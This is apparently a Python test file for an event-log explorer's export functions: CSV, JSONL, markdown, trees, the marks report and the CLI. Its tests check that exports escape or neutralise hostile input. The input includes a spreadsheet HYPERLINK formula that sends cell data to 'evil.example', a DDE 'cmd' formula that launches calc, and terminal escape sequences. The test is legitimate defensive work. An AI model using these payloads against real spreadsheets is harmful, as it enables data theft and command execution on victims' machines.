"""Exports: the rows of a filtered view, correlation trees, the marks report, the CLI."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from cli.main import main as cli_main
from core.correlate.links import Node
from core.model.event import Event
from core.query.compile import compile_query
from core.report.case import Case
from core.report.export import (
    event_text,
    export_marks,
    export_tree,
    export_view,
    tree_to_text,
    write_rows,
)
from core.store.store import Store
from tests.report.case_logs import build_store, write_input, xml_log


@pytest.fixture(autouse=True)
def _dirs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("EVTX_EXPLORER_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("EVTX_EXPLORER_CACHE_DIR", str(tmp_path / "cache"))


@pytest.fixture()
def store(tmp_path: Path) -> Store:
    return build_store(tmp_path / "s.sqlite", write_input(tmp_path))


@pytest.mark.parametrize("query", ["4688", "host:WS01 -4689", "", "4688 user:nobody"])
def test_csv_and_jsonl_hold_exactly_the_rows_of_the_view(store: Store, tmp_path: Path, query: str) -> None:
    compiled = compile_query(query)
    shown = store.select(compiled)
    expected = [(se.event.record_id, se.event.event_id, se.event.computer) for se in shown]

    n = export_view(store, compiled, "jsonl", tmp_path / "v.jsonl")
    docs = [json.loads(line) for line in (tmp_path / "v.jsonl").read_text(encoding="utf-8").splitlines()]
    assert n == len(shown)
    assert [(d["record_id"], d["event_id"], d["computer"]) for d in docs] == expected
    # Values round-trip unaltered (the hostile command line included).
    for d, se in zip(docs, shown, strict=True):
        assert d["data"] == dict(se.event.data)

    n = export_view(store, compiled, "csv", tmp_path / "v.csv")
    with (tmp_path / "v.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert n == len(rows) == len(shown)
    assert [(int(r["record_id"]), int(r["event_id"]), r["computer"]) for r in rows] == expected
    for r, se in zip(rows, shown, strict=True):
        assert json.loads(r["data"]) == dict(se.event.data)


def test_markdown_view_escapes_cells(store: Store, tmp_path: Path) -> None:
    compiled = compile_query("host:DC01")
    n = export_view(store, compiled, "md", tmp_path / "v.md")
    text = (tmp_path / "v.md").read_text(encoding="utf-8")
    assert n == 1
    assert "\x1b" not in text and "\\x1b\\[31m" in text  # escaped, and `[` cannot open a link
    assert "\\|" in text and "a\\nb" in text  # the pipe and the newline cannot break the table
    assert len(text.splitlines()) == 3


def test_exports_refuse_to_overwrite_unless_asked(store: Store, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("precious\n")
    with pytest.raises(FileExistsError, match="exists"):
        export_view(store, compile_query(""), "csv", target)
    assert target.read_text() == "precious\n"
    assert list(tmp_path.glob(".out.csv.*")) == []  # no temp file left behind
    assert export_view(store, compile_query(""), "csv", target, overwrite=True) == 6
    assert target.read_text().startswith("file,record_id")


def test_tree_to_markdown_and_json(store: Store, tmp_path: Path) -> None:
    ids = {se.event.record_id: se.id for se in store.select()}
    tree = Node("handle 0x11ac duplicated", "exact", ids[1004], [
        Node("source: cmd.exe (0xc8c)", "exact", ids[1002], [Node("exit", "exact", ids[1005])]),
        Node("target: System (0x4)", "inferred", None),
        Node("x [red]evil[/red]\x1b[2J", "ambiguous", ids[1003]),
    ])
    assert export_tree(tree, "md", tmp_path / "t.md", store) == 5
    md = (tmp_path / "t.md").read_text(encoding="utf-8").splitlines()
    assert md[0] == "- handle 0x11ac duplicated *exact* (record 1004, EventID 4690, 2015-11-13T14:53:24.0000000Z)"
    assert md[1].startswith("  - source: cmd.exe (0xc8c) *exact* (record 1002, EventID 4688")
    assert md[2].startswith("    - exit *exact* (record 1005, EventID 4689")
    assert md[3] == "  - target: System (0x4) *inferred*"
    assert "\x1b" not in md[4] and "\\[red\\]evil\\[/red\\]\\x1b\\[2J" in md[4]  # no link, no escape

    assert export_tree(tree, "json", tmp_path / "t.json", store) == 5
    doc = json.loads((tmp_path / "t.json").read_text(encoding="utf-8"))
    assert doc["record_id"] == 1004 and doc["confidence"] == "exact"
    assert [c["label"] for c in doc["children"]] == [n.label for n in tree.children]
    assert doc["children"][0]["children"][0]["event_id"] == 4689
    assert "record_id" not in doc["children"][1]
    with pytest.raises(FileExistsError):
        export_tree(tree, "json", tmp_path / "t.json", store)
    assert tree_to_text(tree, store).splitlines()[3] == "  target: System (0x4) [inferred]"


def test_marks_report(store: Store, tmp_path: Path) -> None:
    case = Case.for_inputs([str(tmp_path / "Security.xml")])
    case.bind(store)
    evs = {se.event.record_id: se for se in store.select()}
    case.mark(evs[1006])
    case.set_note(evs[1002], "parent of the rundll32\n| not a table |")
    assert export_marks(case, store, tmp_path / "r.md") == 2
    text = (tmp_path / "r.md").read_text(encoding="utf-8")
    assert "Security.xml" in text and "(6 events)" in text
    assert "2015-11-13T14:53:22.0000000Z to 2015-11-13T14:53:26.0000000Z" in text  # marks' time range
    table = [line for line in text.splitlines() if line.startswith("| 1 ") or line.startswith("| 2 ")]
    assert table[0].startswith("| 1 | 2015-11-13T14:53:22.0000000Z | WS01 | 4688 | 1002 |")
    assert "cmd.exe" in table[0] and "rundll32" in table[1]
    assert "> parent of the rundll32\n> | not a table |" in text
    with pytest.raises(FileExistsError):
        export_marks(case, store, tmp_path / "r.md")


def test_event_text_lists_system_then_eventdata(store: Store) -> None:
    se = next(s for s in store.select() if s.event.record_id == 1003)
    text = event_text(se, "Security.xml")
    lines = text.splitlines()
    assert lines[0] == "Event 4688 (record 1003) on DC01"
    assert lines.index("System:") < lines.index("EventData:")
    assert "  Computer: DC01" in lines and "  EventRecordID: 1003" in lines
    assert "  CommandLine: [red]x[/red] \\x1b[31m | a\\nb" in lines
    assert "\x1b" not in text


def test_exports_keep_every_value_of_repeated_eventdata_names(tmp_path: Path) -> None:
    """Some events repeat a Data name (and JSON exports give lists): an export must not drop
    the later values."""
    with Store(tmp_path / "events.db") as store:
        store.add_source("/logs/a.xml", "xml")
        store.add_events([Event(0, 1, 1, None, 5136, computer="DC1",
                                data=(("AttributeValue", "first"), ("AttributeValue", "second"), ("X", "y")))])
        rows = store.select()
        for fmt in ("jsonl", "csv", "md", "table"):
            out = io.StringIO()
            assert write_rows(store, rows, fmt, out) == 1
            assert "first" in out.getvalue() and "second" in out.getvalue(), fmt
        out = io.StringIO()
        write_rows(store, rows, "jsonl", out)
        data = json.loads(out.getvalue())["data"]
        assert data == {"AttributeValue": "first", "AttributeValue[1]": "second", "X": "y"}


def test_cli_export(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    log = xml_log(tmp_path / "log.xml")
    out = tmp_path / "out.jsonl"
    assert cli_main(["export", str(log), "--where", "4688", "--output", str(out)]) == 0
    assert "wrote 2 rows to" in capsys.readouterr().err
    assert [json.loads(line)["computer"] for line in out.read_text().splitlines()] == ["WS01", "DC01"]
    assert cli_main(["export", str(log), "--where", "4688", "--output", str(out)]) == 4  # Exit.OUTPUT_EXISTS
    assert "exists" in capsys.readouterr().err
    assert cli_main(["export", str(log), "--format", "csv", "--output", str(out), "--force"]) == 0
    assert "wrote 3 rows" in capsys.readouterr().err
    assert cli_main(["export", str(log), "--where", "4688 (", "--output", str(tmp_path / "x")]) == 2

    # --marks: marks made for these inputs (the app's case) become the report.
    with Store(next((tmp_path / "cache").glob("*.sqlite"))) as store:
        case = Case.for_inputs([str(log)])
        case.bind(store)
        case.set_note(store.select(compile_query("4689"))[0], "exit of x1")
    report = tmp_path / "report.md"
    assert cli_main(["export", str(log), "--marks", "--output", str(report)]) == 0
    assert "wrote 1 mark to" in capsys.readouterr().err
    assert "> exit of x1" in report.read_text()


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    """A forged log can name its computer `=HYPERLINK(...)`: the CSV export must not hand a
    spreadsheet a formula. Event data stays exact (one JSON object per row, never a formula)."""
    from tests.logs import event_xml, write_events

    forged = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    log = write_events(tmp_path / "forged.xml", [
        event_xml(4688, 1, "2024-03-01T10:00:00.0000000Z", {"CommandLine": "=cmd|' /C calc'!A0"}, computer=forged),
        event_xml(4688, 2, "2024-03-01T10:00:01.0000000Z", {"CommandLine": "-x"}, computer="+WS01", channel="@ch"),
        event_xml(4688, 3, "2024-03-01T10:00:02.0000000Z", {"CommandLine": "ok"}, computer="WS-01"),
    ])
    out = tmp_path / "forged.csv"
    assert cli_main(["export", str(log), "--format", "csv", "--output", str(out), "--no-cache"]) == 0
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["computer"] for r in rows] == ["'" + forged, "'+WS01", "WS-01"]
    assert rows[1]["channel"] == "'@ch"
    assert [json.loads(r["data"])["CommandLine"] for r in rows] == ["=cmd|' /C calc'!A0", "-x", "ok"]
    for r in rows:
        for cell in r.values():
            assert not cell.startswith(("=", "+", "-", "@")), cell


def _block_device() -> Path | None:
    import stat

    for entry in sorted(Path("/dev").glob("*")):
        try:
            if stat.S_ISBLK(entry.stat().st_mode):
                return entry
        except OSError:
            continue
    return None


def test_exports_to_special_files_and_links(store: Store, tmp_path: Path) -> None:
    """A named pipe with a reader gets the exact data in place, one nobody reads is an error at
    once (no hang); `/dev/null` needs no --force (nothing is replaced); a link to a file replaces
    the file, not the link (`-o /dev/stdout --force` replaced the link `/dev/stdout` by a file);
    a terminal, a block device and a socket are refused."""
    import os
    import socket
    import threading
    import time

    which = compile_query("")
    want = tmp_path / "want.jsonl"
    n = export_view(store, which, "jsonl", want)
    pipe = tmp_path / "out.fifo"
    os.mkfifo(pipe)
    with pytest.raises(OSError, match="a pipe nobody reads"):
        export_view(store, which, "jsonl", pipe)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(pipe.read_bytes()))
    reader.start()
    deadline = time.monotonic() + 10
    while True:  # (once the reader has opened its end)
        try:
            assert export_view(store, which, "jsonl", pipe) == n
            break
        except OSError as exc:
            assert "nobody reads" in str(exc) and time.monotonic() < deadline
    reader.join(10)
    assert got == [want.read_bytes()] and pipe.is_fifo()
    assert export_view(store, which, "jsonl", "/dev/null") == n
    target, link = tmp_path / "real.jsonl", tmp_path / "link.jsonl"
    target.write_text("old\n", encoding="utf-8")
    link.symlink_to(target)
    assert export_view(store, which, "jsonl", link, overwrite=True) == n
    assert link.is_symlink() and target.read_bytes() == want.read_bytes()
    master, slave = os.openpty()
    try:
        with pytest.raises(OSError, match="a terminal"):
            export_view(store, which, "jsonl", os.ttyname(slave), overwrite=True)
    finally:
        os.close(master)
        os.close(slave)
    sock_path = tmp_path / "s.sock"
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(str(sock_path))
        with pytest.raises(OSError, match="a socket"):
            export_view(store, which, "jsonl", sock_path, overwrite=True)
    disk = _block_device()
    if disk is not None:
        with pytest.raises(OSError, match="a block device"):
            export_view(store, which, "jsonl", disk, overwrite=True)
